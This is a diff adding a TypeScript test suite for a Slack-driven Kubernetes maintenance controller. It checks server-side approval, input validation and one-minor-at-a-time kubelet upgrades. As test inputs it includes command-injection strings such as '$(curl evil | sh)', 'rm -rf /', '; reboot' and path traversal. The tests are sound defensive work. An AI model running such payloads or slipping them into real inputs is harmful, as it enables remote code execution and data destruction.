@@ -1,0 +1,229 @@
+/**
+ * DESIGN §5 invariants 2, 3 and 6 against the sim through the commands and the tick: approvals are
+ * checked on the server (a non-approver's click, a request forged straight into the annotation),
+ * text from Slack never reaches a manifest or a shell (node names checked against the cluster,
+ * versions against the strict pattern, the Job's argv only ids and config), and kubelets move one
+ * minor at a time, never past the apiserver.
+ */
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { approveRequest, requestMaintenance } from '../../../src/app/control/commands.js';
+import { runTick } from '../../../src/app/control/tick.js';
+import { ANN_REQUEST, LABEL_STATE } from '../../../src/core/names.js';
+import type { MaintenanceRequest } from '../../../src/core/request.js';
+import { R } from '../../../src/sim/types.js';
+import { testControlDeps, testControlSettings } from '../../support/control.js';
+import { startTestSim, type TestSim } from '../sim/support.js';
+import { executorSettings, NAMESPACE, realJobFor, requestOn } from './support.js';
+
+const alice = { kind: 'person', id: 'alice' } as const;
+const mallory = { kind: 'person', id: 'mallory' } as const;
+
+describe('invariants 2, 3 and 6 on the sim', () => {
+  let sim: TestSim;
+  let nodes: string[];
+  let deps: ReturnType<typeof testControlDeps>;
+
+  before(async () => {
+    sim = await startTestSim({ scenario: 'fleet', nodes: 9, podsPerNode: 2, scale: 20 });
+    nodes = sim.store
+      .list(R.nodes)
+      .map((n) => n.metadata.name ?? '')
+      .sort();
+    deps = testControlDeps(sim, {
+      settings: testControlSettings({
+        lock: { concurrency: 20, pools: {} },
+        jobFor: realJobFor(executorSettings(20)),
+      }),
+    });
+  });
+  after(async () => sim.close());
+
+  /** Writes made through the API (the sim's own kubelets and controllers write too). */
+  const apiWrites = () => sim.admin.audit().filter((e) => e.actor.startsWith('http:')).length;
+  const jobs = () => sim.store.list(R.jobs, { namespace: NAMESPACE });
+  const jobsFor = (node: string) =>
+    jobs().filter((j) => j.metadata.labels?.['kubemaint.io/node'] === node);
+
+  /** Write a request straight into the annotation, as someone with `patch nodes` could. */
+  function forge(node: string, request: Partial<MaintenanceRequest>): void {
+    const at = sim.clock.now().toISOString();
+    const full: MaintenanceRequest = {
+      id: 'r-f0f0f0',
+      node,
+      action: 'reboot',
+      state: 'approved',
+      reason: 'forged',
+      requestedBy: 'mallory',
+      createdAt: at,
+      updatedAt: at,
+      approvals: [],
+      history: [],
+      ...request,
+    };
+    sim.store.mutate(R.nodes, undefined, node, (n) => {
+      n.metadata.labels = { ...n.metadata.labels, [LABEL_STATE]: full.state };
+      n.metadata.annotations = { ...n.metadata.annotations, [ANN_REQUEST]: JSON.stringify(full) };
+    });
+  }
+
+  describe('2: nothing disruptive without an authorised approval, checked on the server', () => {
+    it("a non-approver's approval is refused and the tick starts nothing", async () => {
+      const node = nodes[0]!;
+      const proposed = await requestMaintenance(deps, { node, action: 'reboot', by: mallory });
+      assert.ok(proposed.ok);
+      const result = await approveRequest(deps, proposed.request!.id, mallory);
+      assert.equal(result.ok, false);
+      assert.match(result.message, /mallory is not an approver/);
+      await runTick(deps);
+      assert.equal(requestOn(sim, node)?.state, 'proposed');
+      assert.deepEqual(jobsFor(node), []);
+    });
+
+    it('a request forged into `approved` without approvals never gets a Job', async () => {
+      const node = nodes[1]!;
+      forge(node, { approvals: [] });
+      await runTick(deps);
+      await runTick(deps);
+      assert.deepEqual(jobsFor(node), []);
+      assert.notEqual(requestOn(sim, node)?.state, 'running');
+    });
+
+    it('a forged `running` request with no Job is failed, not executed', async () => {
+      const node = nodes[2]!;
+      forge(node, { id: 'r-f1f1f1', state: 'running', approvals: [{ by: 'alice', at: '' }] });
+      await runTick(deps);
+      const request = requestOn(sim, node);
+      assert.equal(request?.state, 'failed');
+      assert.match(request?.failure ?? '', /vanished before issuing the host command/);
+      assert.deepEqual(jobsFor(node), []);
+    });
+  });
+
+  describe('3: text from Slack never reaches a shell or a manifest unvalidated', () => {
+    const hostile = [
+      'node-1; reboot',
+      '$(reboot)',
+      '`id`',
+      'fleet-general-0001 && curl evil',
+      'a\nb',
+      '../../etc',
+      'x'.repeat(300),
+    ];
+    for (const name of hostile) {
+      it(`node name ${JSON.stringify(name.slice(0, 40))} is refused before any write`, async () => {
+        const before = apiWrites();
+        await assert.rejects(
+          requestMaintenance(deps, { node: name, action: 'reboot', by: alice }),
+          (error: Error & { code?: string }) =>
+            error.code === 'not_found' && error.message.startsWith('no node'),
+        );
+        assert.equal(apiWrites(), before, 'nothing written');
+      });
+    }
+
+    const versions = ['v1.31.4; reboot', '$(id)', 'v1.31', '1.31.4 --force', 'v1.31.4\n', 'latest'];
+    for (const version of versions) {
+      it(`version ${JSON.stringify(version)} is refused by the strict pattern`, async () => {
+        const before = apiWrites();
+        await assert.rejects(
+          requestMaintenance(deps, { node: nodes[3]!, action: 'upgrade', version, by: alice }),
+          (error: Error & { code?: string; hint?: string }) =>
+            error.code === 'usage' && /v1\.31\.4/.test(error.hint ?? ''),
+        );
+        assert.equal(apiWrites(), before, 'nothing written');
+      });
+    }
+
+    it('a reason full of shell text stays in the request; the Job carries only ids and config', async () => {
+      const node = nodes[4]!;
+      const reason = 'kernel CVE"; $(curl evil | sh) `reboot` && rm -rf / #';
+      const proposed = await requestMaintenance(deps, {
+        node,
+        action: 'reboot',
+        reason,
+        by: alice,
+      });
+      assert.ok(proposed.ok);
+      const id = proposed.request!.id;
+      await approveRequest(deps, id, alice);
+      await runTick(deps);
+      const [job] = jobsFor(node);
+      assert.ok(job, 'the approved request got its Job');
+      const manifest = JSON.stringify(job);
+      for (const fragment of ['curl', 'rm -rf', '`reboot`', 'CVE'])
+        assert.ok(!manifest.includes(fragment), `${fragment} reached the Job`);
+      const spec = job.spec?.['template'] as {
+        spec: { containers: { args: string[]; command?: string[] }[] };
+      };
+      const container = spec.spec.containers[0]!;
+      assert.deepEqual(container.args, ['executor', '--node', node, '--request', id]);
+      assert.equal(container.command, undefined);
+    });
+  });
+
+  describe('6: one minor at a time, never past the apiserver', () => {
+    const setKubelet = (node: string, version: string) =>
+      sim.store.mutate(R.nodes, undefined, node, (n) => {
+        const status = n.status as { nodeInfo: { kubeletVersion: string } };
+        status.nodeInfo.kubeletVersion = version;
+      });
+
+    /** A request the tick proposed on the node (the fleet marks some) ends, making room. */
+    const endRequest = (node: string) => {
+      const current = requestOn(sim, node);
+      if (current) forge(node, { ...current, state: 'cancelled' });
+    };
+
+    const cases = [
+      { why: 'two minors behind, no version asked', kubelet: 'v1.29.8', want: 'v1.30.0' },
+      {
+        why: 'two minors behind, the apiserver asked',
+        kubelet: 'v1.29.8',
+        version: 'v1.31.4',
+        want: 'v1.30.0',
+      },
+      {
+        why: 'one minor behind, a version past the apiserver asked',
+        kubelet: 'v1.30.2',
+        version: 'v1.33.0',
+        want: 'v1.31.4',
+      },
+      {
+        why: 'a patch behind, a later minor asked',
+        kubelet: 'v1.31.1',
+        version: 'v1.32.5',
+        want: 'v1.31.4',
+      },
+    ];
+    cases.forEach((c, i) => {
+      it(`${c.why}: ${c.kubelet} → ${c.want}`, async () => {
+        const node = nodes[5 + (i % 4)]!;
+        endRequest(node);
+        setKubelet(node, c.kubelet);
+        const result = await requestMaintenance(deps, {
+          node,
+          action: 'upgrade',
+          ...(c.version ? { version: c.version } : {}),
+          by: alice,
+        });
+        assert.ok(result.ok, result.message);
+        assert.equal(result.request?.targetVersion, c.want);
+      });
+    });
+
+    it('a kubelet already at the apiserver version is not moved', async () => {
+      const node = nodes[8]!;
+      endRequest(node);
+      setKubelet(node, 'v1.31.4');
+      const result = await requestMaintenance(deps, {
+        node,
+        action: 'upgrade',
+        version: 'v1.32.0',
+        by: alice,
+      });
+      assert.equal(result.ok, false);
+      assert.match(result.message, /already at its target/);
+    });
+  });
+});
